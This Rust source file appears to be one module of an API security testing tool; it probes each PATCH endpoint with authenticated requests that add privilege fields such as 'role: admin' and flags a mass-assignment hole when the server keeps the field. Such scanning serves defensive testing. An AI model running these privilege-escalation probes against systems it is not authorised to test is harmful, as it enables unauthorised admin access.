//! A role that nobody granted.

use http::Method;
use serde_json::Value;

use crate::door::{GuideDoor, ShutBy};
use crate::oracle;
use crate::payloads::mass_assignment::PRIVILEGES;
use crate::probing::{Attack, AttackError, Probing};
use crate::verdict::{Attempts, Verdict};

pub(super) const ATTACK: Attack = Attack {
    name: "mass-role",
    door: GuideDoor::MassAssignment,
    shut_by: ShutBy::Code,
    thought: "What if I add `role: admin` to my profile?",
    needs: &[],
    run: |probing| Box::pin(run(probing)),
};

async fn run(p: Probing<'_>) -> Result<Verdict, AttackError> {
    let mut attempts = Attempts::default();
    for endpoint in p.surface.plain(&Method::PATCH) {
        for (field, value) in PRIVILEGES {
            let body = Value::Object([(field.to_owned(), value.into())].into_iter().collect());
            let probe = endpoint.request(&body);
            let (answer, seen) = p.send(&p.authenticated(probe)).await?;
            // The answer shows the object as it is now.
            if oracle::took(&answer, &[field], &value.into()) {
                let summary = format!("{} took {field}: {value}", endpoint.path);
                return Ok(Verdict::exploited(summary, vec![seen]));
            }
            attempts.blocked(seen);
        }
    }
    Ok(attempts.verdict("no privilege was taken", "nothing can be patched"))
}
